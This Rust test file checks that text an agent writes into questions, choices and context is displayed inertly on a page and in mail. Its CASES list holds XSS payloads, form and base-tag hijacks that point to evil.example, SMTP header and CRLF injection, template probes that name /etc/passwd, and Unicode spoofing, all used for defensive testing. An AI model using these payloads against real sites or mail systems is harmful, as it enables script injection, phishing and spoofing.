//! Hostile texts that an agent might be made to write, in each place that takes an agent's text, checked in a real browser.
//!
//! A page or mail with hostile words must have exactly the elements, attributes and addresses of one with harmless words. The
//! wording then no longer matters, because words alone can do nothing but be read.

#![expect(clippy::unwrap_used, reason = "these functions serve tests alone")]

use std::collections::BTreeSet;
use std::fmt::Write as _;

use harness::app::TestApp;
use harness::browser::{Browser, BrowserOptions};
use harness::on_each_store;
use harness::smtp::Received;
use serde_json::{Value, json};

/// Stands at the beginning of each agent text, so that the text can be found on the page. A random token never contains `~`, so a
/// link cannot contain the mark by chance.
const MARK: &str = "ZQ~X";

/// Hostile texts, each with a name for its kind of attack.
const CASES: [(&str, &str); 52] = [
    ("script", "<script>alert(1)</script>"),
    ("script of another case", "<ScRiPt src=//evil.example/x.js></sCrIpT>"),
    ("image", "<img src=x onerror=alert(1)>"),
    ("svg", "<svg onload=alert(1)><use href=\"//evil.example#x\"/></svg>"),
    ("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("frame", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
    ("form", "<form action=//evil.example><input name=value value=approve><button>Send</button></form>"),
    ("end of our form", "</form></section></main><form action=//evil.example>"),
    ("end of our button", "</b></button><button name=value value=deny>"),
    ("end of the title", "</title><meta http-equiv=refresh content=0;url=//evil.example>"),
    ("end of the style", "</style><style>*{display:none}</style>"),
    ("end of the text field", "</textarea><script>alert(1)</script>"),
    ("base", "<base href=//evil.example/>"),
    ("link", "<a href=\"https://evil.example\">Approve</a>"),
    ("comment", "<!-- --!> <!--[if mso]><p>x</p><![endif]-->"),
    ("cdata", "]]><![CDATA[<script>alert(1)</script>]]>"),
    ("double quote", "\" onfocus=\"alert(1)\" autofocus=\""),
    ("single quote", "' onmouseover='alert(1)' style='position:fixed"),
    ("backtick", "` onclick=alert(1) x=`"),
    ("template of another kind", "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {% include \"/etc/passwd\" %}"),
    ("placeholder", "{} {0} {at} %s %n $1 \\1"),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &nbsp;&zwnj;&rlm;"),
    ("half an entity", "&#x3c &lt &amp"),
    ("script address", "javascript:alert(1)"),
    ("data address", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("address", "https://evil.example/a/plc_AAAA http://placet.example.com@evil.example"),
    ("address without a scheme", "www.evil.example evil.example/login //evil.example mailto:x@evil.example"),
    ("foreign address", "https://xn--80ak6aa92e.com https://аррӏе.com https://evil。example"),
    ("markdown", "[Approve](https://evil.example) ![x](//evil.example/p.png) **bold** `code`"),
    ("style", "}*{background:url(//evil.example)} @import '//evil.example/x.css'; expression(alert(1))"),
    ("right to left override", "Refund \u{202e}00.5€\u{202c} to Bob"),
    ("isolates", "\u{2066}approve\u{2067}deny\u{2068}x\u{2069}\u{2069}\u{2069}"),
    ("zero width", "ap\u{200b}pro\u{200c}ve\u{200d}\u{2060}\u{feff}"),
    ("soft hyphens", "de\u{ad}ny\u{34f}\u{61c}\u{3164}\u{2800}"),
    ("tags nobody sees", "approve\u{e0001}\u{e0064}\u{e0065}\u{e006e}\u{e0079}"),
    (
        "stacks",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}\u{30e}\u{30f}\u{310}\u{311}\u{312}\u{313}\u{314}\u{315}a\u{316}\u{317}\u{318}\u{319}\u{31a}\u{31b}\u{31c}\u{31d}\u{31e}\u{31f}",
    ),
    ("alike letters", "Аpprоvе раураl"),
    ("right to left language", "האם להחזיר 412 ש״ח? هل نعيد المبلغ؟"),
    ("mixed directions", "שלום <b>abc</b> 123 (مرحبا) [x]"),
    ("emoji", "👩\u{200d}👩\u{200d}👧\u{200d}👦 🏴 ❤\u{fe0f} 1\u{fe0f}\u{20e3}"),
    ("controls", "a\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}\u{7f}\u{85}b"),
    ("almost null", "a\u{1f}\u{9f}\u{fffd}%00\\0b"),
    ("terminal", "\u{1b}[2J\u{1b}[31mDENIED\u{1b}]8;;https://evil.example\u{7}x"),
    ("line separators", "a\u{2028}Placet: approved\u{2029}b"),
    ("header", "x\r\nBcc: victim@example.com\r\nSubject: owned\r\n\r\nbody"),
    ("end of a mail", "x\r\n.\r\nMAIL FROM:<x@evil.example>\r\nDATA"),
    ("part of a mail", "x\r\n--=_placet_parts\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--=_placet_parts--"),
    ("encoded word", "=?utf-8?q?=0D=0ABcc:_x@evil.example?= =?utf-8?b?PHNjcmlwdD4=?="),
    ("quoted printable", "=3Cscript=3E=0D=0A=\r\n=20=E2=80=AE"),
    (
        "banner",
        "✓ Your answer was recorded. Placet says: you can close this page.\nReminder, message 2 of 2. Read and answer: now",
    ),
    ("fake button", "[ Approve ] ▶ Press here █████ ⟨U+0041⟩"),
    ("quotation marks", "” withdrew this question. “Placet” «says» \"yes"),
];

/// Hostile texts that are long.
fn long_cases() -> Vec<(&'static str, String)> {
    vec![
        ("4 KiB without a space", "w".repeat(4_090)),
        ("4 KiB of what grows", "&<\u{202e}\"".repeat(600)),
        ("wide letters", "界".repeat(1_300)),
        ("one long address", format!("https://{}.example/{}", "e".repeat(300), "p".repeat(3_000))),
    ]
}

/// The mark followed by `text`, at most `bytes_max` bytes long and cut between characters.
fn marked(text: &str, bytes_max: usize) -> String {
    let mut end = text.len().min(bytes_max - MARK.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!("{MARK}{}", &text[..end])
}

/// Asks a question with `text` in each field that an agent fills.
async fn asked(app: &TestApp, text: &str) -> (String, Received) {
    let agent = app.agent();
    // Titles with line breaks or control characters are refused, as another test checks.
    let title: String = marked(text, 400).chars().filter(|c| !c.is_control()).collect();
    let intent = agent.post("api/v1/intents", json!({"title": title, "status": "active"})).await.ok();
    let (long, short) = (marked(text, 4_000), marked(text, 150));
    let question = json!({
        "question": format!("{long}\n{}", marked(text, 90)),
        "choices": [
            {"value": "approve", "label": format!("{short} one"), "description": long[..long.floor_char_boundary(1_900)], "style": "primary"},
            {"value": "deny", "label": format!("two {short}"), "style": "danger"},
        ],
        "context": {short.clone(): short, "group": {short.clone(): short}, "list": [short, "x"], "deep": {"a": {"b": short}}},
        "fallback_policy": "complete_with_fallback", "fallback_value": "deny", "timeout_seconds": 3600,
    });
    let id: domain::base::ids::IntentId = intent["id"].as_str().unwrap().parse().unwrap();
    agent.suspend(id, question).await.ok();
    app.settle().await;
    let mail = app.smtp.next_mail().await;
    (mail.link(&app.base), mail)
}

/// A script that returns the kinds of elements with their attribute names, all addresses, the number of active elements, and the
/// places where the mark must not be.
const ANATOMY: &str = "((root) => {
    const all = [...root.querySelectorAll('*')], kinds = new Set(), acts = {}, addresses = new Set(), astray = new Set();
    for (const element of all) {
        const name = element.localName;
        kinds.add(`${element.namespaceURI.split('/').pop()} ${name} ${[...element.attributes].map((a) => a.name).sort()}`);
        if (['a', 'button', 'form', 'input', 'textarea', 'script', 'style', 'h1', 'title', 'main', 'section', 'table', 'meta'].includes(name))
            acts[name] = (acts[name] ?? 0) + 1;
        for (const attribute of element.attributes) {
            if (['href', 'src', 'action', 'formaction', 'srcset', 'data', 'poster', 'background', 'xlink:href'].includes(attribute.name))
                addresses.add(attribute.value.replace(/(show=everything)#.*/, '$1')); // This link leads to a folded part.
            if (attribute.value.includes('ZQ~X')) astray.add(`${name} ${attribute.name}`);
        }
        for (const node of element.childNodes)
            if (node.nodeType === 3 && node.data.includes('ZQ~X') && !element.closest('.said, .choice, .q, bdi, h1, title')) astray.add(name);
        for (const node of element.childNodes) if (node.nodeType === 8) astray.add('comment');
    }
    return { kinds: [...kinds].sort(), acts, addresses: [...addresses].sort(), astray: [...astray].sort() };
})";

/// The result of [`ANATOMY`] for a page or mail, with the token of its link replaced.
async fn anatomy(browser: &Browser, root: &str, link: &str) -> Value {
    let path = link.split_once("/a/").unwrap().1;
    let found = browser.evaluate(&format!("{ANATOMY}({root})")).await.to_string();
    serde_json::from_str(&found.replace(path, "TOKEN")).unwrap()
}

fn kinds(anatomy: &Value) -> BTreeSet<String> {
    anatomy["kinds"].as_array().unwrap().iter().map(|kind| kind.as_str().unwrap().to_owned()).collect()
}

/// Compares the body of a page or mail with the bodies that harmless words give. It must have no kind of element that none of
/// those has. Its active elements, its addresses and the places of the mark must each be as in one of those.
fn assert_same_body(name: &str, found: &Value, harmless: &[Value]) {
    let known: BTreeSet<String> = harmless.iter().flat_map(kinds).collect();
    let unknown: Vec<String> = kinds(found).difference(&known).cloned().collect();
    assert!(unknown.is_empty(), "{name} has made {unknown:?}");
    for part in ["acts", "addresses", "astray"] {
        assert!(
            harmless.iter().any(|body| body[part] == found[part]),
            "{name}: {part} {} are none of {harmless:#?}",
            found[part]
        );
    }
}

fn is_unseen(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200b}'..='\u{200c}' | '\u{200e}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

/// Checks that a mail has the headers, parts and margins of a harmless mail, and exactly one address.
fn assert_same_mail(name: &str, mail: &Received, link: &str, harmless: &Received) {
    let raw = String::from_utf8(mail.raw.clone()).unwrap();
    assert!(raw.is_ascii() && raw.split("\r\n").all(|line| line.len() <= 998 && !line.contains(['\r', '\n'])), "{name}");
    assert_eq!(header_names(mail), header_names(harmless), "{name}");
    assert_eq!(raw.matches("\r\n--=_placet_parts").count(), 3, "{name}: two parts and their end");
    assert_eq!((mail.to.len(), raw.split("\r\n\r\n").next().unwrap().contains("victim")), (1, name == "header"), "{name}");
    let subject = mail.subject();
    assert!(subject.starts_with(&format!("[Placet] {MARK}")) && subject.chars().count() <= 120, "{name}: {subject}");
    assert!(!subject.contains(is_unseen), "{name}: {subject:?}");
    let text = mail.text().replace("\r\n", "\n");
    assert!(!text.contains(is_unseen) && !mail.html().contains("ZQ~X<"), "{name}: {text:?}");
    assert_eq!(text.matches("://").count(), 1, "{name}: {text}");
    assert!(text.contains(link), "{name}");
    let mut ours = true; // True until the line that names the asking agent.
    for line in text.lines() {
        let at_margin = !line.is_empty() && !line.starts_with("  ");
        assert!(!(at_margin && !ours && line.contains(MARK)), "{name} speaks at the margin: {line}");
        ours = ours && !line.starts_with("test-agent asks");
        let words = ["Placet", "Bcc", "MAIL", "DATA", "Subject", "--=", "Content-Type", "Reminder"];
        assert!(!words.iter().any(|word| line.starts_with(word)), "{name} speaks at the margin: {line}");
    }
}

fn header_names(mail: &Received) -> Vec<String> {
    let raw = String::from_utf8(mail.raw.clone()).unwrap();
    let head = raw.split("\r\n\r\n").next().unwrap();
    head.split("\r\n")
        .filter(|line| !line.starts_with([' ', '\t']))
        .map(|line| line.split(':').next().unwrap().to_owned())
        .collect()
}

on_each_store! {
    /// People decide by words that an agent writes, and an agent may be made to write anything. Its words must be displayed and
    /// have no other effect.
    async fn no_words_of_an_agent_do_anything_but_stand_in_their_frame(app: &mut TestApp) {
        // Scripts may run in this browser. A script that got into the page would be reported on the console by the page's policy.
        let browser = Browser::start(BrowserOptions { width: 320, height: 800, dark: false, javascript: true }).await;
        let mail_root = |mail: &Received| format!("new DOMParser().parseFromString({}, 'text/html')", Value::from(mail.html()));
        let (mut pages, mut mails, mut first) = (Vec::new(), Vec::new(), None);
        let long_words = "harmless words ".repeat(220);
        // This text grows when it is shown, because hidden characters are spelled out, so its keys are folded.
        let unseen = "harmless\u{200b}".repeat(16);
        for harmless in ["harmless", "harmless https://words.example", "harmless\nwords", long_words.trim_end(), &unseen] {
            let (link, mail) = asked(app, harmless).await;
            browser.open(&link).await;
            pages.push(anatomy(&browser, "document", &link).await);
            mails.push(anatomy(&browser, &mail_root(&mail), &link).await);
            browser.console_errors().await;
            first = first.or(Some(mail));
        }
        let first = first.unwrap();
        let mut shown = String::new();
        let cases = CASES.iter().map(|(name, text)| (*name, (*text).to_owned())).chain(long_cases());
        for (name, text) in cases {
            let (link, mail) = asked(app, &text).await;
            browser.open(&link).await;
            assert_same_body(name, &anatomy(&browser, "document", &link).await, &pages);
            let (content, room) = browser.scroll_width().await;
            assert!(content <= room, "{name} is {content} px wide at {room} px");
            let seen = browser.evaluate("document.body.textContent + document.title").await;
            assert!(!seen.as_str().unwrap().contains(is_unseen), "{name}");
            assert_eq!(browser.console_errors().await, [""; 0], "{name}");
            assert_same_body(name, &anatomy(&browser, &mail_root(&mail), &link).await, &mails);
            // The mail's own styles are refused by the page's policy here and reported on the console, so the console is emptied.
            browser.console_errors().await;
            assert_same_mail(name, &mail, &link, &first);
            writeln!(shown, "{name}: {}", mail.subject()).unwrap();
        }
        insta::assert_snapshot!("subjects", shown);
    }
}
